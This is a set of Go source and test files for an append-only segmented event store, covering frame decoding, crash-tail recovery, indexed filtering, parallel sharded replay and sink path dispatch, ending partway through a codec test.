		ix.Actors = nil
		return
	}
	ix.Actors = make([]string, 0, len(actors))
	for a := range actors {
		ix.Actors = append(ix.Actors, a)
	}
	sort.Strings(ix.Actors)
}

// DecodeResult reports what a segment scan found: how much of the
// file was a valid frame sequence and how much trailing corruption
// (if any) was cut off.
type DecodeResult struct {
	Events     int
	ValidBytes int64 // length of the valid prefix including magic
	// TailLossBytes is how many trailing bytes were unreadable —
	// non-zero only when Truncated is set.
	TailLossBytes int64
	Truncated     bool
	// Reason describes the first bad frame when Truncated.
	Reason string
}

// DecodeFrames scans a segment byte stream, invoking fn for every
// valid event in order. Corruption — bad magic, an absurd length, a
// checksum or JSON decode failure, a short final frame — never
// returns an error: the scan stops at the first bad frame and the
// result records the clean prefix and the reason. A non-nil error
// from fn aborts the scan and is returned as-is. size is the total
// stream length if known (for tail-loss accounting), or -1.
func DecodeFrames(r io.Reader, size int64, fn func(trace.Event) error) (DecodeResult, error) {
	var res DecodeResult
	br := bufio.NewReaderSize(r, 256<<10)
	truncate := func(reason string) (DecodeResult, error) {
		res.Truncated = true
		res.Reason = reason
		if size >= 0 {
			res.TailLossBytes = size - res.ValidBytes
		}
		return res, nil
	}

	magic := make([]byte, len(segMagic))
	if _, err := io.ReadFull(br, magic); err != nil {
		return truncate("missing magic")
	}
	if string(magic) != segMagic {
		return truncate("bad magic")
	}
	res.ValidBytes = int64(len(segMagic))

	var hdr [frameHeaderLen]byte
	// One grow-on-demand scratch buffer serves every frame:
	// json.Unmarshal copies whatever it keeps, so the payload never
	// escapes the loop and the hot replay path stays allocation-free
	// per event.
	var payload []byte
	for {
		if _, err := io.ReadFull(br, hdr[:]); err != nil {
			if err == io.EOF {
				return res, nil // clean end of segment
			}
			return truncate("short frame header")
		}
		length := binary.LittleEndian.Uint32(hdr[0:4])
		sum := binary.LittleEndian.Uint32(hdr[4:8])
		if length == 0 || length > maxFrame {
			return truncate("implausible frame length")
		}
		if uint32(cap(payload)) < length {
			payload = make([]byte, length)
		}
		payload = payload[:length]
		if _, err := io.ReadFull(br, payload); err != nil {
			return truncate("short frame payload")
		}
		if crc32.ChecksumIEEE(payload) != sum {
			return truncate("checksum mismatch")
		}
		var e trace.Event
		if err := json.Unmarshal(payload, &e); err != nil {
			return truncate("frame not an event")
		}
		res.ValidBytes += frameHeaderLen + int64(length)
		res.Events++
		if err := fn(e); err != nil {
			return res, err
		}
	}
}

// scanSegment decodes a segment file from disk.
func scanSegment(path string, fn func(trace.Event) error) (DecodeResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return DecodeResult{}, err
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		return DecodeResult{}, err
	}
	return DecodeFrames(f, st.Size(), fn)
}

// rebuildIndex reconstructs a sidecar by scanning the segment data —
// the recovery path for a segment whose writer died before sealing.
func rebuildIndex(path string, maxActors int) (Index, DecodeResult, error) {
	ix := Index{Version: IndexVersion}
	actors := map[string]struct{}{}
	res, err := scanSegment(path, func(e trace.Event) error {
		// Frame size is re-derived from the marshalled form below via
		// ValidBytes, so observe with zero and fix Bytes afterwards.
		ix.observe(e, 0, actors, maxActors)
		return nil
	})
	if err != nil {
		return Index{}, res, err
	}
	ix.seal(actors)
	ix.Bytes = res.ValidBytes
	return ix, res, nil
}
