package evstore

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/trace"
)

// mkEvent builds a deterministic test event; seq doubles as payload
// variation so frames differ.
func mkEvent(seq uint64, kind trace.Kind, user string, t time.Time) trace.Event {
	return trace.Event{
		Seq: seq, Time: t, Kind: kind, User: user,
		Op: "write", Target: fmt.Sprintf("notebooks/n%d.ipynb", seq), Bytes: int64(seq),
	}
}

func fillStore(t *testing.T, dir string, opts Options, n int) []trace.Event {
	t.Helper()
	s, err := Open(dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	base := time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)
	var events []trace.Event
	for i := 0; i < n; i++ {
		e := mkEvent(uint64(i+1), trace.KindFileOp, fmt.Sprintf("user%d", i%7), base.Add(time.Duration(i)*time.Second))
		events = append(events, e)
		if err := s.Append(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return events
}

func readAll(t *testing.T, dir string) []trace.Event {
	t.Helper()
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []trace.Event
	if _, err := s.Scan(Filter{}, func(e trace.Event) error {
		out = append(out, e)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRoundTripAcrossRotation(t *testing.T) {
	dir := t.TempDir()
	// Tiny segments force many rotations.
	want := fillStore(t, dir, Options{SegmentBytes: 2048, FlushEvery: 3}, 500)
	got := readAll(t, dir)
	if len(got) != len(want) {
		t.Fatalf("read %d events, wrote %d", len(got), len(want))
	}
	for i := range want {
		if got[i].Seq != want[i].Seq || got[i].User != want[i].User || !got[i].Time.Equal(want[i].Time) {
			t.Fatalf("event %d diverged: got %+v want %+v", i, got[i], want[i])
		}
	}

	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	if len(segs) < 4 {
		t.Fatalf("expected multiple segments, got %d", len(segs))
	}
	total := 0
	var lastMax uint64
	for _, seg := range segs {
		ix := seg.Index
		total += ix.Events
		if ix.Events == 0 {
			t.Fatalf("segment %s indexed empty", seg.Path)
		}
		if ix.MinSeq <= lastMax && lastMax != 0 {
			t.Fatalf("segment %s seq range [%d,%d] overlaps previous max %d", seg.Path, ix.MinSeq, ix.MaxSeq, lastMax)
		}
		lastMax = ix.MaxSeq
		if ix.Kinds[trace.KindFileOp] != ix.Events {
			t.Fatalf("segment %s kind histogram %v != events %d", seg.Path, ix.Kinds, ix.Events)
		}
		if ix.ActorsOverflow || len(ix.Actors) == 0 {
			t.Fatalf("segment %s actor index unexpectedly %+v", seg.Path, ix)
		}
	}
	if total != len(want) {
		t.Fatalf("indexes count %d events, wrote %d", total, len(want))
	}
}

func TestReopenAppendsFreshSegment(t *testing.T) {
	dir := t.TempDir()
	fillStore(t, dir, Options{}, 10)
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := 10; i < 20; i++ {
		if err := s.Append(mkEvent(uint64(i+1), trace.KindExec, "late", time.Date(2026, 6, 2, 0, 0, 0, 0, time.UTC))); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	got := readAll(t, dir)
	if len(got) != 20 {
		t.Fatalf("read %d events, want 20", len(got))
	}
	for i, e := range got {
		if e.Seq != uint64(i+1) {
			t.Fatalf("order broken at %d: seq %d", i, e.Seq)
		}
	}
}

func TestCorruptTailTruncatedOnOpen(t *testing.T) {
	dir := t.TempDir()
	fillStore(t, dir, Options{}, 50)
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	last := segs[len(segs)-1]

	// Simulate a crash mid-append: garbage after the last frame and no
	// sidecar (the sidecar is only written at seal time).
	if err := os.Remove(indexPath(last.Path)); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(last.Path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	garbage := []byte("\x99\x99\x99\x99 torn half-frame from a dead writer")
	if _, err := f.Write(garbage); err != nil {
		t.Fatal(err)
	}
	f.Close()

	re, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	rec := re.Recovered()
	if len(rec) != 1 {
		t.Fatalf("recovered %v, want one tail loss", rec)
	}
	if rec[0].LostBytes != int64(len(garbage)) {
		t.Fatalf("lost %d bytes, want %d (%s)", rec[0].LostBytes, len(garbage), rec[0].Reason)
	}
	st, err := os.Stat(last.Path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Size() != last.Index.Bytes {
		t.Fatalf("file not truncated back to %d bytes (got %d)", last.Index.Bytes, st.Size())
	}
	if got := readAll(t, dir); len(got) != 50 {
		t.Fatalf("read %d events after recovery, want all 50", len(got))
	}
}

func TestTruncatedFrameRecovery(t *testing.T) {
	dir := t.TempDir()
	fillStore(t, dir, Options{}, 30)
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	last := segs[len(segs)-1]
	if err := os.Remove(indexPath(last.Path)); err != nil {
		t.Fatal(err)
	}
	// Chop the file mid-frame: the last event must be dropped cleanly.
	if err := os.Truncate(last.Path, last.Index.Bytes-5); err != nil {
		t.Fatal(err)
	}
	re, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rec := re.Recovered(); len(rec) != 1 {
		t.Fatalf("recovered %v, want one entry", rec)
	}
	got := readAll(t, dir)
	if len(got) != 29 {
		t.Fatalf("read %d events, want 29 (one torn frame dropped)", len(got))
	}
}

func TestCompactRetention(t *testing.T) {
	dir := t.TempDir()
	fillStore(t, dir, Options{SegmentBytes: 2048}, 300)
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	if len(segs) < 3 {
		t.Fatalf("need >=3 segments for the test, got %d", len(segs))
	}
	keep := 2
	kept := segs[len(segs)-keep:]
	wantEvents := 0
	for _, seg := range kept {
		wantEvents += seg.Index.Events
	}

	removed, err := s.Compact(keep)
	if err != nil {
		t.Fatal(err)
	}
	if removed != len(segs)-keep {
		t.Fatalf("removed %d segments, want %d", removed, len(segs)-keep)
	}
	if got := s.Events(); got != wantEvents {
		t.Fatalf("events after compact = %d, want %d", got, wantEvents)
	}
	for _, seg := range segs[:removed] {
		if _, err := os.Stat(seg.Path); !os.IsNotExist(err) {
			t.Fatalf("compacted segment %s still on disk", seg.Path)
		}
		if _, err := os.Stat(indexPath(seg.Path)); !os.IsNotExist(err) {
			t.Fatalf("compacted sidecar for %s still on disk", seg.Path)
		}
	}
	// Survivors replay intact, oldest-first.
	got := readAll(t, dir)
	if len(got) != wantEvents {
		t.Fatalf("replay after compact read %d events, want %d", len(got), wantEvents)
	}
	if got[0].Seq != kept[0].Index.MinSeq {
		t.Fatalf("replay starts at seq %d, want %d", got[0].Seq, kept[0].Index.MinSeq)
	}
	if _, err := s.Compact(-1); err == nil {
		t.Fatal("negative retention accepted")
	}
}

func TestEmitStickyError(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Yank the directory out from under the writer: the next append
	// cannot create a segment and must surface through Err, not panic.
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	s.Emit(mkEvent(1, trace.KindExec, "u", time.Now()))
	if s.Err() == nil {
		t.Fatal("append into removed directory reported no error")
	}
	s.Emit(mkEvent(2, trace.KindExec, "u", time.Now()))
	if s.Err() == nil {
		t.Fatal("sticky error cleared")
	}
}

func TestConcurrentEmit(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SegmentBytes: 8192})
	if err != nil {
		t.Fatal(err)
	}
	const goroutines, per = 8, 250
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				s.Emit(mkEvent(uint64(g*per+i+1), trace.KindExec, fmt.Sprintf("g%d", g),
					time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)))
			}
		}(g)
	}
	wg.Wait()
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if got := len(readAll(t, dir)); got != goroutines*per {
		t.Fatalf("read %d events, want %d", got, goroutines*per)
	}
}

// TestOpenReadNeverMutates pins the reader/writer split: a read-only
// open of a store with a torn, unsealed tail must report the loss but
// leave the file and the missing sidecar exactly as found — a reader
// that truncated or wrote a sidecar for a live writer's active
// segment would freeze a stale index and mask the writer's own crash
// recovery.
func TestOpenReadNeverMutates(t *testing.T) {
	dir := t.TempDir()
	fillStore(t, dir, Options{}, 40)
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	last := s.Segments()[len(s.Segments())-1]
	if err := os.Remove(indexPath(last.Path)); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(last.Path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	garbage := []byte("torn-by-a-live-writer")
	if _, err := f.Write(garbage); err != nil {
		t.Fatal(err)
	}
	f.Close()
	tornSize := last.Index.Bytes + int64(len(garbage))

	ro, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	if rec := ro.Recovered(); len(rec) != 1 || rec[0].LostBytes != int64(len(garbage)) {
		t.Fatalf("read-only open reported %v, want one %d-byte loss", rec, len(garbage))
	}
	if st, _ := os.Stat(last.Path); st.Size() != tornSize {
		t.Fatalf("read-only open truncated the segment to %d bytes", st.Size())
	}
	if _, err := os.Stat(indexPath(last.Path)); !os.IsNotExist(err) {
		t.Fatal("read-only open wrote a sidecar for the unsealed segment")
	}
	var n int
	if _, err := ro.Scan(Filter{}, func(trace.Event) error { n++; return nil }); err != nil {
		t.Fatal(err)
	}
	if n != 40 {
		t.Fatalf("read %d events, want 40", n)
	}
	if err := ro.Append(mkEvent(99, trace.KindExec, "u", time.Now())); err == nil {
		t.Fatal("append on read-only store accepted")
	}
	if _, err := ro.Compact(1); err == nil {
		t.Fatal("compact on read-only store accepted")
	}

	// A writer's Open afterwards performs the real recovery.
	w, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(w.Recovered()) != 1 {
		t.Fatalf("writer open recovered %v", w.Recovered())
	}
	if st, _ := os.Stat(last.Path); st.Size() != last.Index.Bytes {
		t.Fatalf("writer open left the torn tail (size %d)", st.Size())
	}

	// OpenRead also refuses a nonexistent path rather than creating it.
	missing := filepath.Join(t.TempDir(), "nope")
	if _, err := OpenRead(missing); err == nil {
		t.Fatal("OpenRead accepted a missing directory")
	}
	if _, err := os.Stat(missing); !os.IsNotExist(err) {
		t.Fatal("OpenRead created the directory")
	}
}

// TestOpenSinkDispatch pins the CLI path convention: .jsonl paths
// truncate into flat JSONL; anything else appends to a store and
// reports what was already there.
func TestOpenSinkDispatch(t *testing.T) {
	dir := t.TempDir()

	jsonlPath := filepath.Join(dir, "events.jsonl")
	h, err := OpenSink(jsonlPath, SinkFresh, CodecBinary)
	if err != nil {
		t.Fatal(err)
	}
	h.Emit(mkEvent(1, trace.KindExec, "u", time.Now()))
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(jsonlPath)
	if err != nil {
		t.Fatal(err)
	}
	if !json.Valid([]byte(strings.TrimSpace(string(data)))) {
		t.Fatalf("jsonl sink wrote non-JSON: %q", data)
	}

	storePath := filepath.Join(dir, "store")
	h, err = OpenSink(storePath, SinkFresh, CodecBinary)
	if err != nil {
		t.Fatal(err)
	}
	if h.ExistingEvents != 0 {
		t.Fatalf("fresh store reports %d existing events", h.ExistingEvents)
	}
	for i := 0; i < 5; i++ {
		h.Emit(mkEvent(uint64(i+1), trace.KindExec, "u", time.Now()))
	}
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := OpenSink(storePath, SinkFresh, CodecBinary); err == nil {
		t.Fatal("SinkFresh open of a non-empty store accepted")
	}
	h, err = OpenSink(storePath, SinkAppend, CodecJSON)
	if err != nil {
		t.Fatal(err)
	}
	if h.ExistingEvents != 5 {
		t.Fatalf("append-mode open reports %d existing events, want 5", h.ExistingEvents)
	}
	h.Emit(mkEvent(6, trace.KindExec, "u", time.Now()))
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if got := len(readAll(t, storePath)); got != 6 {
		t.Fatalf("append mode holds %d events, want 6", got)
	}

	// Replace mode drops the old recording — the store analogue of
	// os.Create truncation, used by resumed sweeps that re-emit the
	// complete stream.
	h, err = OpenSink(storePath, SinkReplace, CodecBinary)
	if err != nil {
		t.Fatal(err)
	}
	if h.ExistingEvents != 0 {
		t.Fatalf("replace-mode open reports %d existing events, want 0", h.ExistingEvents)
	}
	h.Emit(mkEvent(1, trace.KindAuth, "", time.Now()))
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if got := len(readAll(t, storePath)); got != 1 {
		t.Fatalf("replace mode holds %d events, want 1", got)
	}
}
