package evstore

import (
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/trace"
)

// Filter selects a slice of the log. The zero Filter matches every
// event. Time bounds are inclusive; zero times mean unbounded. A
// segment whose sidecar proves no event can match is skipped without
// reading it.
type Filter struct {
	Since time.Time
	Until time.Time
	Kinds []trace.Kind
	Actor string
}

// Match reports whether one event passes the filter.
func (f Filter) Match(e trace.Event) bool {
	if !f.Since.IsZero() && e.Time.Before(f.Since) {
		return false
	}
	if !f.Until.IsZero() && e.Time.After(f.Until) {
		return false
	}
	if len(f.Kinds) > 0 {
		ok := false
		for _, k := range f.Kinds {
			if e.Kind == k {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	if f.Actor != "" && trace.ActorKey(e) != f.Actor {
		return false
	}
	return true
}

// MatchIndex reports whether a segment with the given sidecar could
// contain matching events. Unknown index facets (zero time range,
// overflowed actor list) fail open: the segment is read and per-event
// Match decides. Exported so callers correlating per-segment metadata
// (e.g. open-time recovery reports) with a filtered replay can tell
// which segments the replay actually visited.
func (f Filter) MatchIndex(ix Index) bool {
	if !f.Since.IsZero() && !ix.MaxTime.IsZero() && ix.MaxTime.Before(f.Since) {
		return false
	}
	if !f.Until.IsZero() && !ix.MinTime.IsZero() && ix.MinTime.After(f.Until) {
		return false
	}
	if len(f.Kinds) > 0 && len(ix.Kinds) > 0 {
		ok := false
		for _, k := range f.Kinds {
			if ix.Kinds[k] > 0 {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	if f.Actor != "" && !ix.ActorsOverflow && len(ix.Actors) > 0 {
		ok := false
		for _, a := range ix.Actors {
			if a == f.Actor {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	return true
}

// pushDown derives a frame-header skip predicate from the kind and
// actor facets: v2 frames carry both in the header, so a frame that
// cannot match is discarded after the CRC check without decoding its
// body. Time bounds are not in the header and stay with per-event
// Match — safe, because pushDown only skips frames Match would reject
// anyway. Returns nil when the filter has no pushable facet, which
// keeps the unfiltered decode loop branch-free.
func (f Filter) pushDown() func(kind trace.Kind, actor string) bool {
	if len(f.Kinds) == 0 && f.Actor == "" {
		return nil
	}
	return func(kind trace.Kind, actor string) bool {
		if len(f.Kinds) > 0 {
			ok := false
			for _, k := range f.Kinds {
				if kind == k {
					ok = true
					break
				}
			}
			if !ok {
				return true
			}
		}
		return f.Actor != "" && actor != f.Actor
	}
}

// ReplayStats summarizes one replay pass.
type ReplayStats struct {
	SegmentsTotal    int   // sealed segments in the store
	SegmentsSelected int   // segments the index could not rule out
	Decoded          int64 // frames decoded across selected segments
	Skipped          int64 // v2 frames discarded by header push-down, undecoded
	Events           int64 // events delivered after per-event filtering
	TailLossBytes    int64 // corrupt trailing bytes skipped during the pass
}

// Scan streams matching events in log order through fn — the serial
// consumer path (export, conversion). Corrupt segment tails are
// skipped and counted, mirroring Replay. A non-nil error from fn
// aborts the scan. Scan keeps plain copying semantics: every event's
// strings are ordinary heap strings the caller may retain freely (no
// arena), which is what export/conversion consumers expect.
func (s *Store) Scan(f Filter, fn func(trace.Event) error) (ReplayStats, error) {
	return s.scan(f, nil, fn)
}

// scan is Scan with an optional decode scratch (Replay's serial path
// passes one carrying an arena; Scan passes nil).
func (s *Store) scan(f Filter, sc *decodeScratch, fn func(trace.Event) error) (ReplayStats, error) {
	segs := s.Segments()
	stats := ReplayStats{SegmentsTotal: len(segs)}
	skip := f.pushDown()
	if sc == nil {
		// Even without an arena, the read/payload buffers are reused
		// across the whole pass instead of re-allocated per segment.
		sc = &decodeScratch{}
	}
	for _, seg := range segs {
		if !f.MatchIndex(seg.Index) {
			continue
		}
		stats.SegmentsSelected++
		res, err := scanSegmentScratch(seg.Path, skip, sc, func(e trace.Event) error {
			stats.Decoded++
			if !f.Match(e) {
				return nil
			}
			stats.Events++
			return fn(e)
		})
		stats.Skipped += int64(res.Skipped)
		stats.TailLossBytes += res.TailLossBytes
		if err != nil {
			return stats, err
		}
	}
	return stats, nil
}

// Replay feeds matching events to process in batches, sharded by
// actor across `workers` goroutines — the store-native equivalent of
// workload.Replay, without ever materializing the trace.
//
// Parallelism is two-level: segments decode concurrently (bounded
// look-ahead), and each decoded segment is split into per-shard
// buckets that shard workers consume strictly in segment order. One
// actor's events therefore arrive at its single shard worker in
// append order even though decoding overlaps — the same per-group
// serial-equivalence contract as workload.Replay — while segments the
// sidecar index rules out (wrong kinds, disjoint time window, absent
// actor) are never read at all.
//
// Borrow contract: the batch slice passed to process is reused, so
// process must not retain the slice or the Event structs in it past
// the callback's return. Event string fields are decoded into
// per-segment arenas (trace.Arena) whose chunks are append-only and
// GC-owned, so a string a consumer does copy out by reference stays
// valid — retaining one merely pins its chunk. Consumers that keep
// anything long-lived should still copy explicitly; see DESIGN.md
// "Replay memory model".
func (s *Store) Replay(f Filter, workers, batch int, process func([]trace.Event)) (ReplayStats, error) {
	if workers <= 0 {
		workers = 1
	}
	if batch <= 0 {
		batch = 256
	}
	if workers == 1 {
		// Serial path: one scratch (read buffer, payload, dictionary,
		// arena) serves every segment of the pass, so the whole replay
		// costs O(segments) allocations, same as the sharded path.
		sc := &decodeScratch{arena: &trace.Arena{}}
		buf := make([]trace.Event, 0, batch)
		stats, err := s.scan(f, sc, func(e trace.Event) error {
			buf = append(buf, e)
			if len(buf) == batch {
				process(buf)
				buf = buf[:0]
			}
			return nil
		})
		if len(buf) > 0 {
			process(buf)
		}
		return stats, err
	}

	all := s.Segments()
	stats := ReplayStats{SegmentsTotal: len(all)}
	var segs []SegmentInfo
	for _, seg := range all {
		if f.MatchIndex(seg.Index) {
			segs = append(segs, seg)
		}
	}
	stats.SegmentsSelected = len(segs)
	if len(segs) == 0 {
		return stats, nil
	}

	skip := f.pushDown()
	var decoded, skipped, matched, tailLoss atomic.Int64
	var errMu sync.Mutex
	var firstErr error

	// Each decoded segment materializes once as a flat event array
	// plus a parallel shard-tag array; shard worker w walks the tags
	// and copies out only its events. Flat-plus-tags beats per-shard
	// buckets because the sidecar records the segment's exact event
	// count: the array is allocated right-sized and never regrows,
	// where skewed actor sharding made bucket growth (and the zeroing
	// of ever-larger backing arrays) the replay's dominant cost.
	// Each segBuf also owns the decode scratch — read buffer, payload
	// buffer, dictionary slice, and the string arena — so recycling a
	// buffer through the free list recycles the whole per-segment
	// decode state. Recycling reuses containers only: arena chunks are
	// append-only, so strings already handed to shard workers (or
	// copied out by consumers) are never overwritten by the next
	// segment decoded into the same segBuf. That is what makes it safe
	// to release a segment before a worker's partial cross-segment
	// batch has been flushed to process.
	type segBuf struct {
		events []trace.Event
		shard  []uint32
		sc     decodeScratch
	}
	type segState struct {
		buf     *segBuf // valid once done is closed
		done    chan struct{}
		readers atomic.Int32 // shard workers yet to finish with it
	}
	states := make([]*segState, len(segs))
	for i := range states {
		st := &segState{done: make(chan struct{})}
		st.readers.Store(int32(workers))
		states[i] = st
	}

	// Bounded decode look-ahead keeps at most a few segments'
	// filtered events in memory at once. Look-ahead past the
	// machine's parallelism can't speed decoding up — it only holds
	// more segments live — so the bound also caps at GOMAXPROCS+2,
	// which is what lets the free list actually recycle buffers
	// mid-pass on small stores. Drained buffers recycle through that
	// free list (a channel, not a sync.Pool: mid-pass GC would purge
	// a pool's warm capacity exactly when it matters).
	ahead := workers + 2
	if p := runtime.GOMAXPROCS(0) + 2; ahead > p {
		ahead = p
	}
	if ahead > len(segs) {
		ahead = len(segs)
	}
	slots := make(chan struct{}, ahead)
	free := make(chan *segBuf, ahead)

	go func() {
		for i := range segs {
			slots <- struct{}{} // released when every shard is done with segment i
			go func(i int) {
				st := states[i]
				var sb *segBuf
				select {
				case sb = <-free:
				default:
					sb = &segBuf{sc: decodeScratch{arena: &trace.Arena{}}}
				}
				n := segs[i].Index.Events
				if cap(sb.events) < n {
					sb.events = make([]trace.Event, 0, n)
					sb.shard = make([]uint32, 0, n)
				} else {
					sb.events = sb.events[:0]
					sb.shard = sb.shard[:0]
				}
				res, err := scanSegmentScratch(segs[i].Path, skip, &sb.sc, func(e trace.Event) error {
					decoded.Add(1)
					if !f.Match(e) {
						return nil
					}
					matched.Add(1)
					sb.events = append(sb.events, e)
					sb.shard = append(sb.shard, uint32(trace.ShardIndex(trace.ActorKey(e), workers)))
					return nil
				})
				skipped.Add(int64(res.Skipped))
				tailLoss.Add(res.TailLossBytes)
				if err != nil {
					errMu.Lock()
					if firstErr == nil {
						firstErr = err
					}
					errMu.Unlock()
				}
				st.buf = sb
				close(st.done)
			}(i)
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			mine := uint32(w)
			buf := make([]trace.Event, 0, batch)
			for i := range segs {
				st := states[i]
				<-st.done
				sb := st.buf
				for j, sh := range sb.shard {
					if sh != mine {
						continue
					}
					buf = append(buf, sb.events[j])
					if len(buf) == batch {
						process(buf)
						buf = buf[:0]
					}
				}
				if st.readers.Add(-1) == 0 {
					select {
					case free <- sb:
					default:
					}
					st.buf = nil
					<-slots
				}
			}
			if len(buf) > 0 {
				process(buf)
			}
		}(w)
	}
	wg.Wait()

	stats.Decoded = decoded.Load()
	stats.Skipped = skipped.Load()
	stats.Events = matched.Load()
	stats.TailLossBytes = tailLoss.Load()
	return stats, firstErr
}
