package evstore

import (
	"fmt"
	"os"
	"strings"

	"repro/internal/trace"
)

// SinkHandle is an open event-recording destination: the one dispatch
// point for the CLI convention that a path ending in .jsonl is a
// legacy flat JSONL stream (truncated on open) and anything else is a
// store directory (opened for append). It implements trace.Sink;
// Close flushes and returns the first write or encode error, so a
// torn recording can never pass for a complete one.
type SinkHandle struct {
	sink    trace.Sink
	closeFn func() error

	// ExistingEvents counts events already recorded at the path before
	// this open — always zero for .jsonl paths, which truncate.
	// Callers decide the policy: refuse (one-shot recordings like a
	// census), or append with a notice (long-lived server logs).
	ExistingEvents int

	// Recovered reports any corrupt tail truncated while opening a
	// store path, for the caller to surface.
	Recovered []TailLoss

	// Store is the underlying segmented store when the path is a store
	// directory, nil for flat .jsonl paths. Callers that need
	// store-only operations (Stats, tiered retention via Compact)
	// reach it here; Close on the handle still owns the lifecycle.
	Store *Store
}

// Emit forwards to the underlying sink.
func (h *SinkHandle) Emit(e trace.Event) { h.sink.Emit(e) }

// Close flushes and reports the first recording error.
func (h *SinkHandle) Close() error { return h.closeFn() }

// SinkMode is the policy for a store path that already holds events.
// Flat .jsonl paths always truncate (os.Create semantics), so the
// mode only matters for store directories.
type SinkMode int

const (
	// SinkFresh refuses a non-empty store. The probe is read-only, so
	// the refusal leaves a live writer's store untouched (a
	// writer-mode probe would seal a stale sidecar over its active
	// segment before the policy could run). For one-shot recordings
	// whose stream must equal exactly what this run produced.
	SinkFresh SinkMode = iota
	// SinkReplace drops the existing recording and starts over — the
	// store equivalent of os.Create truncation. For reruns that
	// re-emit the complete stream (a resumed census re-emits resumed
	// findings, so appending would duplicate them).
	SinkReplace
	// SinkAppend continues an existing recording, reporting what was
	// already there via ExistingEvents. For long-lived logs that span
	// restarts.
	SinkAppend
)

// OpenSink opens an event-recording path per the suffix convention.
// codec selects the segment format for store paths (CodecBinary when
// empty); .jsonl paths are JSON by definition and ignore it. Reading
// back is always per-segment version-dispatched, so the choice only
// affects new segments.
func OpenSink(path string, mode SinkMode, codec Codec) (*SinkHandle, error) {
	if strings.HasSuffix(path, ".jsonl") {
		f, err := os.Create(path)
		if err != nil {
			return nil, err
		}
		w := trace.NewJSONLWriter(f)
		return &SinkHandle{sink: w, closeFn: func() error {
			if err := w.Flush(); err != nil {
				f.Close()
				return err
			}
			if err := w.Err(); err != nil {
				f.Close()
				return err
			}
			return f.Close()
		}}, nil
	}
	existing := 0
	if st, err := os.Stat(path); err == nil && st.IsDir() {
		probe, err := OpenRead(path)
		if err != nil {
			return nil, err
		}
		existing = probe.Events()
		if mode == SinkFresh && existing > 0 {
			return nil, fmt.Errorf("evstore: %s already holds a recorded stream (%d events); delete it or record elsewhere", path, existing)
		}
	}
	store, err := Open(path, Options{Codec: codec})
	if err != nil {
		return nil, err
	}
	if mode == SinkReplace {
		if _, err := store.Compact(0); err != nil {
			return nil, err
		}
		existing = 0
	}
	return &SinkHandle{sink: store, Store: store, ExistingEvents: existing, Recovered: store.Recovered(), closeFn: func() error {
		if err := store.Close(); err != nil {
			return err
		}
		return store.Err()
	}}, nil
}
