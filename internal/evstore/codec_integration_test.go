package evstore

import (
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/trace"
	"repro/internal/workload"
)

// TestSegmentMagicFollowsCodec pins the on-disk dispatch byte: the
// codec option selects the magic of new segments, and the sidecar
// records which codec sealed them.
func TestSegmentMagicFollowsCodec(t *testing.T) {
	for _, tc := range []struct {
		codec Codec
		magic string
	}{
		{CodecBinary, segMagicV2},
		{CodecJSON, segMagic},
	} {
		dir := t.TempDir()
		fillStore(t, dir, Options{Codec: tc.codec}, 3)
		s, err := OpenRead(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, seg := range s.Segments() {
			head := make([]byte, len(segMagic))
			f, err := os.Open(seg.Path)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := f.Read(head); err != nil {
				t.Fatal(err)
			}
			f.Close()
			if string(head) != tc.magic {
				t.Fatalf("codec %s wrote magic %q, want %q", tc.codec, head, tc.magic)
			}
			if seg.Index.Codec != string(tc.codec) {
